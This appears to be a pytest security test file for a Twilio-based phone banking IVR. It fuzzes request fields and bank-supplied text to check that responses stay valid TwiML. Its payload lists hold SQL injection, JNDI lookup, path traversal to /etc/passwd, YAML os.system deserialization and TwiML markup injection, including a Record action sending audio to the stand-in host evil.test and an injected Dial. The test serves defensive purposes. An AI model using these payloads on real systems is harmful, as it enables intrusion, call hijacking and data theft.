"""What callers, carriers and the bank may send: A4 anything in any field, A7 markup where words are spoken."""

from __future__ import annotations

from collections import Counter
from unittest.mock import patch
from xml.etree import ElementTree

import pytest

from ivr.carrier.twiml import TwimlFault
from ivr.carrier.twiml_parser import parse_twiml
from ivr.channels.twilio import prompts
from ivr.engine.input_step import InputStep
from tests.attacks.hotline import VICTIM, Hotline, twin

HOSTILE = (
    "", " ", "0" * 4000, "ABCD", "*#*#", "1;DROP TABLE live", "' OR '1'='1", "\x00", "1\r\nX-Injected: 1", "１２３",
    "٣",
    "{{7*7}}", "${jndi:ldap://x}", "%s%s%n", "../../etc/passwd", "<Hangup/>", "]]>", "&lol;", "=1+1", "😀" * 200,
    "\u202e1", "!!python/object:os.system", "-1", "1e999", "null", "{flow}", "a" * 60_000,
)  # fmt: skip
FIELDS = ("Digits", "SpeechResult", "Confidence", "RecordingUrl", "DialCallStatus", "From", "To", "CallStatus")
MARKUP = (
    "</Say><Record action='http://evil.test'/><Say>",
    '"/><Dial>+18765550000</Dial><Say x="',
    "<break time='99999s'/>",
    "]]><Hangup/><![CDATA[",
    "&#60;Hangup/&#62;",
    "<!-- ",
    "\ufffe<Say>",
)


def send_anything(hotline: Hotline) -> list[str]:
    """A4: put everything hostile into every field, at the first prompt, at a secret one and in the queue."""
    achieved = []
    for keys, fields in (((), FIELDS[:3]), (("1", VICTIM.card[-4:]), FIELDS[:2]), (("0",), FIELDS[3:])):
        for field in fields:
            for value in HOSTILE:
                call = hotline.call().press(*keys).send(**{field: value})
                answer = call.answers[-1]
                if answer.status not in (200, 403, 413):
                    achieved.append(f"{field}: status {answer.status}")
                elif answer.status == 200:
                    achieved += _broken(answer.body, field)
    return achieved


def speak_markup(hotline: Hotline) -> list[str]:
    """A7: have a payment hold markup, and compare the elements with those of a harmless one."""
    harmless = _hear_payment(hotline, "餐饮消费")
    assert "餐饮消费" in harmless
    achieved = []
    for words in MARKUP:
        try:
            more = _elements(_hear_payment(hotline, words)) - _elements(harmless)
        except ElementTree.ParseError:
            achieved.append(f"{words!r} breaks the document")
            continue
        more.subtract(Say=more["Say"])  # a long text is spoken in pieces
        achieved += [f"{words!r} adds {element}" for element in more.elements()]
    return achieved


def _hear_payment(hotline: Hotline, words: str) -> str:
    hotline.bank.bought = words
    return hotline.call().press("2", VICTIM.card[-4:], VICTIM.pin).said


def _broken(document: bytes, field: str) -> list[str]:
    try:
        parse_twiml(document, status=200, content_type="text/xml", url="http://ivr.test/")
    except TwimlFault as fault:
        return [f"{field}: {fault}"]
    return []


def _elements(document: str) -> Counter[str]:
    return Counter(element.tag for element in ElementTree.fromstring(document).iter())


@pytest.mark.timeout(600)
def test_whatever_is_sent_the_answer_is_a_playable_document(hotline, shipped):
    assert send_anything(hotline) == []

    def answers(self, turn, action):
        raise RuntimeError("planted")

    with (
        twin(patch.object(InputStep, "answer", answers), patch("ivr.channels.turns.apologise", lambda *_: b"<oops")),
        pytest.raises(AssertionError),
    ):
        assert send_anything(Hotline(shipped)) == []


def test_markup_in_what_the_bank_sends_is_spoken_or_left_out(shipped):
    assert speak_markup(Hotline(shipped)) == []
    prompts._written_say.cache_clear()
    with twin(patch.object(prompts, "written", str)):
        assert speak_markup(Hotline(shipped))
    prompts._written_say.cache_clear()
